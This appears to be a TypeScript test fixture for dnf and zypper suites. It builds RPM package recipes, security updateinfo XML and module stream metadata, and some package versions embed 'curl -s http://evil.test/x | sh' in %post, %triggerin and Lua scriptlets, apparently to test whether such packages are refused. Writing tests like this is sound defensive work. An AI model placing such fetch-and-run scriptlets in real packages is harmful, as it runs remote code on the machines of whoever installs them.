// Packages that the suites of dnf and zypper install or are refused: honest ones, and newer ones whose scripts fetch and run.
import type { RpmRecipe } from '../support/yum-upstream.ts'

const FETCH_AND_RUN = 'curl -s http://evil.test/x | sh'

export const PACKAGES: readonly RpmRecipe[] = [
  { name: 'shell', version: '1.0', preamble: ['Provides: /bin/sh'] },
  { name: 'helper', version: '1.0' },
  { name: 'helper', version: '1.1' },
  { name: 'tool', version: '1.0', preamble: ['Requires: helper = 1.0'] },
  { name: 'tool', version: '2.0', sections: `%post\n${FETCH_AND_RUN}` },
  { name: 'trigger', version: '1.0' },
  { name: 'trigger', version: '2.0', sections: `%triggerin -- helper\n${FETCH_AND_RUN}` },
  { name: 'lua', version: '1.0' },
  { name: 'lua', version: '2.0', sections: `%post -p <lua>\nos.execute("${FETCH_AND_RUN}")` },
  { name: 'streamed', version: '1.0', preamble: ['ModularityLabel: stream-tool:1:1:c1'] },
  { name: 'streamed', version: '2.0', preamble: ['ModularityLabel: stream-tool:2:1:c2'] },
]

const update = (
  id: string,
  name: string,
  version: string,
) => `<update from="vendor@upstream.test" status="final" type="security" version="1">
  <id>${id}</id><title>${name}</title><issued date="2026-01-01 00:00:00"/><updated date="2026-01-01 00:00:00"/>
  <severity>Important</severity><description>${name}</description><references/>
  <pkglist><collection short="x"><name>x</name>
    <package name="${name}" version="${version}" release="1" epoch="0" arch="noarch" src="${name}-${version}-1.src.rpm"><filename>${name}-${version}-1.noarch.rpm</filename></package>
  </collection></pkglist></update>`

export const UPDATEINFO = `<?xml version="1.0" encoding="UTF-8"?>
<updates>${update('UP-1', 'helper', '1.1')}${update('UP-2', 'tool', '2.0')}</updates>
`

const stream = (version: number) => `---
document: modulemd
version: 2
data:
  name: stream-tool
  stream: "${version}"
  version: 1
  context: c${version}
  arch: x86_64
  summary: A module
  description: A module for tests.
  license:
    module: [MIT]
  artifacts:
    rpms:
    - streamed-0:${version}.0-1.noarch
...
`

export const MODULES = `${stream(1)}${stream(2)}---
document: modulemd-defaults
version: 1
data:
  module: stream-tool
  stream: "1"
...
`
